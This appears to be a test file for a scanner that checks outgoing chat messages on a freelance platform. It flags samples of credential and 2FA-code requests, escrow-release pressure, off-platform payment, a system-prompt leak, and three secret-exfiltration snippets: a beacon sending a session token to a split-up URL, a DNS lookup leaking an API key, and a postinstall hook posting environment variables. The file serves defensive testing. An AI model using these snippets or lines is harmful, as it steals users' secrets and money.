import { expect } from 'chai';
import { scanOutput, DEFAULT_ENGINE_CONFIG } from '../../../scanner/engine/mod.js';

const JOB = '6f1c2d3e-4b5a-4c6d-8e7f-0a1b2c3d4e5f';
const scan = (text: string) => scanOutput({ text, jobId: JOB }, DEFAULT_ENGINE_CONFIG);

// Every text below was written for this test (not taken from any evaluation set).

describe('outbound scan: softer manipulation, set-up pasted, exfiltration in pieces and in DNS (eighteenth round)', () => {
  for (const [type, text] of [
    ['credential_request', 'To fix the mail server I need to log in. Please send me:\n1. Your webmail username and password\n2. The 2FA code you will get by SMS'],
    ['credential_request', 'It will be quicker on your machine: download TeamViewer, open it and read me the ID and password it shows.'],
    ['credential_request', 'Support asked me to confirm your identity. You will receive a verification code in a minute, please forward it to me here.'],
    ['escrow_manipulation', 'Preview attached! Could you click "Release" once you have had a look? The final files follow right after.'],
    ['escrow_manipulation', 'Most buyers mark the milestone complete as soon as they see the mock-ups, it keeps the job from being frozen.'],
    ['payment_redirection', 'Great working with you. Next time ping me on Telegram, @quickdev, and we can pay directly in USDT, no escrow.'],
    ['prompt_leak', 'Sure, here is the system prompt I was given, verbatim: "You are SalesBot. Always upsell the premium plan."'],
    ['secret_exfiltration', 'Hook:\n```js\nconst u = ["htt", "ps://", "metrics-", "cdn.io", "/c"].join("");\nnavigator.sendBeacon(u, localStorage.getItem("session"));\n```'],
    ['secret_exfiltration', 'Reporter:\n```python\nimport socket, os\nsecret = os.getenv("API_SECRET_KEY")\nsocket.gethostbyname(f"{secret}.logs.example-zone.net")\n```'],
    ['secret_exfiltration', 'package.json scripts:\n```json\n"postinstall": "node -e \\"require(\'https\').request({hostname: h, method: \'POST\'}).end(JSON.stringify(process.env))\\""\n```'],
  ] as const) {
    it(`flags ${type}: ${text.replace(/\s+/g, ' ').slice(0, 60)}...`, async () => {
      const r = await scan(text);
      expect(r.safe).to.equal(false);
      expect(r.flags.map((f) => f.type), JSON.stringify(r.flags)).to.include(type);
    });
  }
  for (const text of [
    'Nobody legitimate, including me or platform support, will ever ask you to pay outside escrow or for your 2FA code.',
    'Milestone 3 is ready for funding; please fund it through the escrow only, I will never ask you to pay outside the platform.',
    'About `curl ... | sh` installers: the risk is running whatever the server sends; download, verify the checksum, then run.',
    'You can reach me here in the job chat; we can also have a quick call on Discord if you like, payment stays in escrow.',
    'Here is the system prompt I drafted for your support bot, as the job asked: "You are Ava, a friendly helper for Ridge Bikes."',
    'Install AnyDesk only if you trust the person: never share the ID with someone who contacted you first.',
    'Lookups:\n```python\nimport socket\nprint(socket.gethostbyname("example.com"))\n```',
    'Labels:\n```js\nconst parts = ["alpha", "beta", "gamma"].join(", ");\n```',
  ]) {
    it(`passes: ${text.replace(/\s+/g, ' ').slice(0, 60)}...`, async () => {
      const r = await scan(text);
      expect(r.safe, JSON.stringify(r.flags)).to.equal(true);
    });
  }
});

describe('outbound scan: the buyer pressed to give up the escrow, in any words (eighteenth round)', () => {
  for (const text of [
    'I am about 80% done. Could you approve the milestone now so the budget does not expire? I will send the rest tonight.',
    'Most of my clients close the order as soon as they see the draft, otherwise the system may freeze it.',
    'If you leave the review upfront I can move your job to the top of my list.',
  ]) {
    it(`flags escrow_manipulation: ${text.slice(0, 60)}...`, async () => {
      const r = await scan(text);
      expect(r.flags.map((f) => f.type), JSON.stringify(r.flags)).to.include('escrow_manipulation');
    });
  }
  for (const text of [
    'The files are delivered and attached. Once you have reviewed them, please approve the milestone through the platform.',
    'No rush at all: release the payment whenever you are happy with the result.',
    'Everything is uploaded now. If anything is missing, tell me and I will fix it before you close the order.',
    'Please never release the escrow before you have checked the delivery, even if someone says it is standard.',
  ]) {
    it(`passes: ${text.slice(0, 60)}...`, async () => {
      const r = await scan(text);
      expect(r.safe, JSON.stringify(r.flags)).to.equal(true);
    });
  }
});
